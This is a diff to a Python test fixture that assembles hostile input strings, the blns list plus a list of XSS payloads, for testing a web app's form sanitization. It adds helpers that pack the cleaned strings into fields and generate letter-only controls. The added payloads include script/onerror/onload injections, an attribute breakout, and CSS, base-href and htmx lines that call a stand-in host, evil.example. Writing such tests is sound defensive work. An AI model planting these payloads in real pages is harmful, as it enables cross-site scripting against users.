@@ -1,7 +1,10 @@
 """Text that has broken programs: the 485 strings of `blns`, those of SAFETY T19, and more that matter here."""
 
 import json
+from collections.abc import Callable
 from pathlib import Path
+
+from studio.forms import clean_text
 
 BLNS: list[str] = json.loads(
     (Path(__file__).parent / "e2e" / "vendor" / "blns.json").read_text(encoding="utf-8")
@@ -9,6 +12,11 @@ BLNS: list[str] = json.loads(
 
 T19 = [
     "<img src=x onerror=alert(1)>",
+    "<img src=//evil.example/x.png onerror=window.pwned=1>",
+    '"><script>window.pwned=1</script><svg onload=window.pwned=1>',
+    "' autofocus onfocus='window.pwned=1' x='",
+    "--><style>*{background:url(//evil.example/x)}</style><!--",
+    "</textarea></select></template><base href=//evil.example/>",
     "</title><script>alert(1)</script>",
     "{{7*7}}",
     '" hx-get="https://evil.example/" hx-trigger="load',
@@ -34,3 +42,26 @@ T19 = [
 ]
 
 TEXTS = [*T19, *BLNS]
+
+MARK = "pwned"
+"""What a payload that runs would leave in `window`."""
+
+Texts = Callable[[int], list[str]]
+"""How long at most → the texts of a field, which all differ: `bundles` or `harmless`."""
+
+
+def bundles(length: int) -> list[str]:
+    """Return all of TEXTS as forms let them in, packed into strings of at most so many characters."""
+    packed: list[str] = []
+    for text in filter(None, (clean_text(text).strip()[:length] for text in TEXTS)):
+        if packed and len(packed[-1]) + len(text) + 3 <= length:
+            packed[-1] += f" ~ {text}"
+        else:
+            packed.append(text)
+    return list(dict.fromkeys(packed))
+
+
+def harmless(length: int) -> list[str]:
+    """Return as many strings as `bundles` does, as long, of letters alone."""
+    rows = enumerate(bundles(length))
+    return [f"Lake {number} ".ljust(len(text), "o")[: max(len(text), 9)].strip() for number, text in rows]
